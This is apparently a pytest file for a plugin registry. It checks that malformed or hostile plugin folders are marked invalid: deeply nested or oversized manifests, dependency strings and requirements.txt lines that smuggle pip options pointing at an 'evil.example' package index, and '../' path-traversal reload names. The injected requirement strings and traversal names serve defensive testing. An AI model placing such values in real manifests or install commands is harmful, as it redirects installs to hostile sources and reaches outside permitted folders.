"""Hostile plugin folders: a nested or oversized plugin.json, requirement strings that smuggle
installer options, a reload name that is a path. Each gives the plugin `invalid` with a reason (or
a clear error) while the registry, `plugins list` and the other plugins carry on."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from orchestrator.errors import ManifestError, NotFoundError
from orchestrator.plugins.manifest import MAX_MANIFEST_BYTES, load_manifest
from orchestrator.plugins.registry import PluginRegistry
from tests.jobs.helpers import cli
from tests.plugins.conftest import MakePlugin
from tests.test_cli_plugins import _settings

INDEX_TOKEN = "idx-t0ken-s3cret"


def _nested(depth: int) -> str:
    return '{"name": "deep", "version": "1", "entry_point": "main.run", "tags": ' + "[" * depth + "]" * depth + "}"


@pytest.mark.parametrize("depth", [100_000, 2_000, 65])
def test_a_deeply_nested_manifest_is_refused_with_a_reason(make_plugin: MakePlugin, depth: int) -> None:
    folder = make_plugin("deep", manifest=_nested(depth))
    with pytest.raises(ManifestError, match="nested deeper than 64 levels"):
        load_manifest(folder)


def test_a_manifest_over_one_mib_is_refused_unread(make_plugin: MakePlugin) -> None:
    folder = make_plugin("big", description="x" * MAX_MANIFEST_BYTES)
    with pytest.raises(ManifestError, match="larger than 1024 KiB"):
        load_manifest(folder)
    make_plugin("fits", description="x" * (MAX_MANIFEST_BYTES - 1000))
    load_manifest(folder.parent / "fits")


@pytest.mark.parametrize(
    ("requirement", "reason"),
    [
        ("idna\n--index-url http://evil.example/simple", "line break or control character"),
        ("idna\r\n", "line break or control character"),
        ("idna\t--pre", "line break or control character"),
        ("idna --index-url http://evil.example/simple", "'--index-url' is not a requirement"),
        (f"idna --extra-index-url=http://u:{INDEX_TOKEN}@evil.example", "'--extra-index-url' is not a requirement"),
        ("-e .", "'-e' is not a requirement"),
    ],
)
def test_requirement_strings_with_line_breaks_or_options_are_refused(
    make_plugin: MakePlugin, requirement: str, reason: str
) -> None:
    folder = make_plugin("smuggle", dependencies=["requests>=2", requirement])
    with pytest.raises(ManifestError, match="dependencies: item 1") as e:
        load_manifest(folder)
    assert reason in str(e.value)
    assert INDEX_TOKEN not in str(e.value) and "evil.example" not in str(e.value)


async def test_requirements_txt_lines_are_checked_too(make_plugin: MakePlugin, registry: PluginRegistry) -> None:
    make_plugin("ok")
    folder = make_plugin("txt")
    (folder / "requirements.txt").write_text(
        f"# pinned\nidna==3.7  # why\n--extra-index-url http://u:{INDEX_TOKEN}@evil.example/simple\n"
    )
    await registry.load()
    info = registry.get("txt")
    assert info is not None and info.state == "invalid"
    assert (
        info.reason is not None and "requirements.txt line 3: '--extra-index-url' is not a requirement" in info.reason
    )
    assert INDEX_TOKEN not in info.reason
    (folder / "requirements.txt").write_text("-r other.txt\n")
    await registry.reload("txt")
    assert "'-r' is not a requirement" in (registry.get("txt").reason or "")  # type: ignore[union-attr]
    ok = registry.get("ok")
    assert ok is not None and ok.state != "invalid"


async def test_a_nested_manifest_leaves_the_registry_and_its_reload_working(
    make_plugin: MakePlugin, registry: PluginRegistry
) -> None:
    make_plugin("ok")
    make_plugin("deep", manifest=_nested(50_000))
    await registry.load()
    deep = registry.get("deep")
    assert deep is not None and deep.state == "invalid" and "nested deeper" in (deep.reason or "")
    await registry.reload("deep")  # the reload component's path: no RecursionError
    assert registry.get("ok") is not None


async def test_a_reload_name_never_reaches_outside_the_plugins_folder(
    tmp_path: Path, plugins_dir: Path, make_plugin: MakePlugin, registry: PluginRegistry
) -> None:
    make_plugin("ok")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "plugin.json").write_text(json.dumps({"name": "outside", "version": "1", "entry_point": "main.run"}))
    (outside / "main.py").write_text("def run(): pass\n")
    await registry.load()
    rel = "../" * len(plugins_dir.relative_to(tmp_path).parts) + "outside"
    for name in (rel, str(outside), "ok\n"):
        with pytest.raises(NotFoundError, match="not a plugin name"):
            await registry.reload(name)
    assert registry.get("outside") is None


async def test_plugins_list_carries_on_past_a_nested_manifest(tmp_path: Path) -> None:
    settings = _settings(tmp_path)
    plugins = tmp_path / "plugins"
    (plugins / "deep").mkdir(parents=True)
    (plugins / "deep" / "plugin.json").write_text(_nested(100_000))
    r = await cli(settings, "plugins", "list", "--json")
    assert r.rc == 0, r.err
    (deep,) = r.json()
    assert deep["state"] == "invalid" and "nested deeper than 64 levels" in deep["reason"]
    assert "Traceback" not in r.err
